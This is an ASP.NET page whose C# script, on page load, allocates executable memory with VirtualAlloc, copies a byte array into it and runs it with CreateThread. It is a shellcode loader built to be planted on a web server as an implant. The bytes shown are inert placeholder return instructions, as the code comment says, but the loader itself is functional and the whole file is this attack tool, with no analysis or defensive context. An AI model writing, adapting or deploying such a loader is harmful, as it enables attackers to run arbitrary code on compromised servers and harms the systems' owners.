<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
    [DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr s, uint t, uint p);
    [DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr a, UIntPtr s, IntPtr start, IntPtr arg, uint f, IntPtr id);
    void Page_Load(object sender, EventArgs e)
    {
        // inert placeholder bytes (ret instructions) where a loader would keep its shellcode
        byte[] sc = new byte[] { 0xc3, 0xc3, 0xc3, 0xc3 };
        IntPtr m = VirtualAlloc(IntPtr.Zero, (UIntPtr)sc.Length, 0x3000, 0x40);
        Marshal.Copy(sc, 0, m, sc.Length);
        CreateThread(IntPtr.Zero, UIntPtr.Zero, m, IntPtr.Zero, 0, IntPtr.Zero);
    }
</script>
